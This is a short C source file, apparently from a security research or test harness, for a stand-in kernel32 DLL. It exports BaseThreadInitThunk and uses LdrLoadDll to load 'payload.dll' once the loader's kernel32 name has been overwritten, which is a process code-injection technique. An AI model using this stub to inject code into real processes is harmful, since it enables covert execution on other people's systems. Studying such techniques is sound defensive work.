/* k32hook.dll: loaded in kernel32's place after LdrpKernel32DllName was overwritten; it must export
 * BaseThreadInitThunk, and it loads its payload from there. */
#include "fake.h"

DEFINE_SINK
DEFINE_DLLMAIN

IMPORT NTSTATUS LdrLoadDll(WCHAR *, ULONG *, UNICODE_STRING *, PVOID *);
IMPORT NTSTATUS RtlExitUserThread(NTSTATUS);

static WCHAR payload[] = {'p', 'a', 'y', 'l', 'o', 'a', 'd', '.', 'd', 'l', 'l', 0};

EXPORT void BaseThreadInitThunk(ULONG flags, PTHREAD_START start, PVOID param)
{
    UNICODE_STRING name = {22, 24, payload};
    PVOID base = 0;
    NTSTATUS status = LdrLoadDll(0, 0, &name, &base);
    if (status >= 0)
        start(param);
    SINK(flags);
    SINK(RtlExitUserThread(status));
}
